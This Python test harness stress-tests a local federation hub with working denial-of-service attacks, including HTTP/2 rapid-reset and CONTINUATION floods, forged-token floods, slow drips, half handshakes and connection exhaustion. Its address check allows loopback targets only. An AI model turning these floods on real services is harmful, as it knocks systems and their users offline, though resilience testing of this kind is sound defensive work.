"""Unauthenticated load on a hub of this machine, in a process that yields the cores to all others.

`python -m tests.attack.attackers FILE` reads the target and the kind of attack from a JSON file, prints that it is
ready, starts at the first line on standard input and stops when standard input is closed. It refuses addresses other
than loopback.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import ipaddress
import itertools
import json
import ssl
import struct
import sys
from collections.abc import Awaitable, Callable, Coroutine
from pathlib import Path
from typing import Any

import uvloop

from federation.core.config.types import Address
from federation.core.istio.ca_protocol import METHOD
from tests.bench.callers import HEADERS, PING, RST_STREAM, SETTINGS, Call, frame, header_block
from tests.bench.processes import allow_many_files, yield_cores
from tests.support.raw_http2 import RawConnection

AGAIN = 1.0  # seconds until what the hub has ended is started again
STRANGER = "127.0.0.2"  # honest callers use another address
CONTINUATION, PRIORITY = 9, 2
RAMP = 0.005  # seconds between two starts: a storm of handshakes is a different attack from idle connections
Attack = Callable[[dict[str, Any]], Coroutine[Any, Any, None]]


def listener(target: dict[str, Any], **options: Any) -> RawConnection:
    return RawConnection(
        address(target["listener"]), target["trust"].encode(), target["server_name"], **options
    )


def address(text: str) -> Address:
    host, _, port = text.rpartition(":")
    if not ipaddress.ip_address(host).is_loopback:
        raise ValueError(f"{text} is not on this machine")
    return Address(host, int(port))


async def forever(count: int, one: Callable[[int], Awaitable[None]], *, ramp: float = RAMP) -> None:
    """Run this many at once, each started again when it has ended or failed."""

    async def again(number: int) -> None:
        await asyncio.sleep(number * ramp)
        while True:
            with contextlib.suppress(OSError, ssl.SSLError, TimeoutError):
                await one(number)
            await asyncio.sleep(AGAIN)

    async with asyncio.TaskGroup() as group:
        for number in range(count):
            group.create_task(again(number))


async def headers_without_a_body(target: dict[str, Any]) -> None:
    """32 connections that keep 100 calls each open and never send a message."""

    async def one(_: int) -> None:
        async with listener(target) as connection:
            begun = 0
            while not connection.closed.is_set():
                for _ in range(100 - (begun - len(connection.ended))):
                    connection.headers()
                    begun += 1
                await asyncio.sleep(AGAIN)

    await forever(32, one)


async def dripping_bodies(target: dict[str, Any]) -> None:
    """32 connections with 16 calls each, whose messages arrive byte by byte."""

    async def one(_: int) -> None:
        async with listener(target) as connection:
            open_calls: set[int] = set()
            while not connection.closed.is_set():
                open_calls -= connection.ended.keys()
                for _ in range(16 - len(open_calls)):
                    stream = connection.headers()
                    connection.data(stream, b"\x00\x00\x00\xff\xff")
                    open_calls.add(stream)
                for stream in open_calls:
                    connection.data(stream, b"x")
                await asyncio.sleep(0.5)

    await forever(32, one)


async def garbage_tokens(target: dict[str, Any]) -> None:
    """200 calls a second with forged tokens that name the victim, half of them with key IDs that it does not have."""
    numbers = itertools.count()
    head, claims, signature = target["token"].split(".")
    header = json.loads(base64.urlsafe_b64decode(head + "=" * (-len(head) % 4)))
    message = base64.b64decode(target["message"])

    def token() -> str:
        number = next(numbers)
        kid = header["kid"] if number % 2 else f"unknown-{number}"
        forged = base64.urlsafe_b64encode(json.dumps({**header, "kid": kid}).encode()).rstrip(b"=").decode()
        return f"{forged}.{claims}.{number:08}{signature[8:]}"

    async def one(_: int) -> None:
        async with listener(target) as connection:
            while not connection.closed.is_set():
                sent = {"authorization": f"Bearer {token()}", "clusterid": target["victim"]}
                stream = connection.headers(sent)
                connection.data(stream, Call(b"", message).body, end=True)
                await asyncio.sleep(16 / 200)

    await forever(16, one)


async def unknown_key_ids(target: dict[str, Any]) -> None:
    """Two calls a second with key IDs unknown to the hostile member, so that the hub reads its keys again."""
    numbers = itertools.count()
    _, claims, signature = target["token"].split(".")
    message = base64.b64decode(target["message"])

    async def one(_: int) -> None:
        async with listener(target) as connection:
            while not connection.closed.is_set():
                header = json.dumps({"alg": "RS256", "kid": f"unknown-{next(numbers)}"}).encode()
                head = base64.urlsafe_b64encode(header).rstrip(b"=").decode()
                token = f"{head}.{claims}.{signature}"
                sent = {"authorization": f"Bearer {token}", "clusterid": target["hostile"]}
                connection.data(connection.headers(sent), Call(b"", message).body, end=True)
                await asyncio.sleep(0.5)

    await forever(1, one)


async def idle_connections(target: dict[str, Any]) -> None:
    """500 connections that make no call after their TLS handshake, and 200 without a handshake."""

    async def shaken(_: int) -> None:
        async with listener(target) as connection:
            await connection.closed.wait()

    async def bare(_: int) -> None:
        where = address(target["listener"])
        reader, writer = await asyncio.open_connection(where.host, where.port)
        try:
            await reader.read()
        finally:
            writer.close()

    async with asyncio.TaskGroup() as group:
        group.create_task(forever(500, shaken))
        group.create_task(forever(200, bare))


async def crowds_of_connections(target: dict[str, Any]) -> None:
    """2,000 connections from one address, each opened again when it is closed: twice what the listener accepts."""

    async def one(number: int) -> None:
        if number % 2:
            async with listener(target, source=STRANGER) as connection:
                await connection.closed.wait()
        else:
            await until_closed(target, b"")

    await forever(2000, one, ramp=0.0005)


async def handshakes_without_an_end(target: dict[str, Any]) -> None:
    """1,000 connections from one address that send half a TLS ClientHello."""
    await forever(1000, lambda _: until_closed(target, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc"), ramp=0.0005)


async def failing_handshakes(target: dict[str, Any]) -> None:
    """64 connections at a time from one address that reject the listener's certificate, again and again."""
    where, untrusting = address(target["listener"]), ssl.create_default_context()
    untrusting.set_alpn_protocols(["h2"])

    async def one(_number: int) -> None:
        while True:
            with contextlib.suppress(OSError, ssl.SSLError):
                _, writer = await asyncio.open_connection(
                    where.host,
                    where.port,
                    ssl=untrusting,
                    server_hostname=target["server_name"],
                    local_addr=(STRANGER, 0),
                )
                writer.close()
            await asyncio.sleep(0)

    await forever(64, one)


async def until_closed(target: dict[str, Any], sent: bytes) -> None:
    """Open a connection, send only these bytes and wait until it is closed."""
    where = address(target["listener"])
    reader, writer = await asyncio.open_connection(where.host, where.port, local_addr=(STRANGER, 0))
    try:
        writer.write(sent)
        await reader.read()
    finally:
        writer.close()


def flood(of: Callable[[dict[str, Any], int], bytes]) -> Attack:
    """32 connections from one address that send these frames as fast as they are read, on odd stream numbers."""

    async def attack(target: dict[str, Any]) -> None:
        async def one(_: int) -> None:
            async with listener(target, source=STRANGER) as connection:
                for number in itertools.count():
                    if connection.closed.is_set():
                        return
                    connection.send(of(target, 2 * number + 1))
                    await connection.drain()

        await forever(32, one)

    return attack


def resets(target: dict[str, Any], stream: int) -> bytes:
    """A call and its reset at once (CVE-2023-44487)."""
    call = Call(header_block(METHOD, target["server_name"], {}), base64.b64decode(target["message"]))
    return call.frames(stream) + frame(RST_STREAM, 0, stream, b"\x00\x00\x00\x08")


def continuations(target: dict[str, Any], stream: int) -> bytes:
    """HEADERS first, then CONTINUATION frames without end (CVE-2024-27316)."""
    if stream == 1:
        return frame(HEADERS, 0, 1, header_block(METHOD, target["server_name"], {}))
    return frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b" * 100)


def control(_: dict[str, Any], __: int) -> bytes:
    """Pings, settings and priorities."""
    return (frame(PING, 0, 0, bytes(8)) + frame(SETTINGS, 0, 0, b"") + frame(PRIORITY, 0, 1, bytes(5))) * 20


async def readers_that_do_not_read(target: dict[str, Any]) -> None:
    """32 connections with 16 answered calls each and a flow-control window of zero for the answers."""
    sent = {"authorization": f"Bearer {target['token']}", "clusterid": target["victim"]}
    call = Call(header_block(METHOD, target["server_name"], sent), base64.b64decode(target["message"]))
    no_window = struct.pack(">HIHI", 1, 0, 4, 0)

    async def one(_: int) -> None:
        async with listener(target, source=STRANGER, settings=no_window) as connection:
            for number in range(16):
                connection.send(call.frames(2 * number + 1))
            await connection.closed.wait()

    await forever(32, one)


async def idle_keep_alive(target: dict[str, Any]) -> None:
    """300 connections to each status and health address that make one request and stay open."""

    async def one(number: int) -> None:
        where = address(target["http_addresses"][number % len(target["http_addresses"])])
        reader, writer = await asyncio.open_connection(where.host, where.port)
        try:
            writer.write(b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n")
            while await reader.read(65536):
                pass
        finally:
            writer.close()

    await forever(300 * len(target["http_addresses"]), one)


ATTACKS: dict[str, Attack] = {
    "headers-without-a-body": headers_without_a_body,
    "dripping-bodies": dripping_bodies,
    "garbage-tokens": garbage_tokens,
    "unknown-key-ids": unknown_key_ids,
    "idle-connections": idle_connections,
    "idle-keep-alive": idle_keep_alive,
    "crowds-of-connections": crowds_of_connections,
    "handshakes-without-an-end": handshakes_without_an_end,
    "failing-handshakes": failing_handshakes,
    "rapid-resets": flood(resets),
    "endless-headers": flood(continuations),
    "floods-of-control": flood(control),
    "readers-that-do-not-read": readers_that_do_not_read,
}


async def serve(target: dict[str, Any]) -> None:
    lines = asyncio.StreamReader()
    loop = asyncio.get_running_loop()
    await loop.connect_read_pipe(lambda: asyncio.StreamReaderProtocol(lines), sys.stdin)
    print(json.dumps({"ready": True}), flush=True)
    if not await lines.readline():
        return
    print(json.dumps({"answer": "started"}), flush=True)
    attack = asyncio.create_task(ATTACKS[target["attack"]](target))
    ended = asyncio.create_task(lines.read())
    await asyncio.wait([attack, ended], return_when=asyncio.FIRST_COMPLETED)
    attack.cancel()
    with contextlib.suppress(asyncio.CancelledError):
        await attack


if __name__ == "__main__":
    allow_many_files()
    yield_cores(19)
    uvloop.run(serve(json.loads(Path(sys.argv[1]).read_text())))
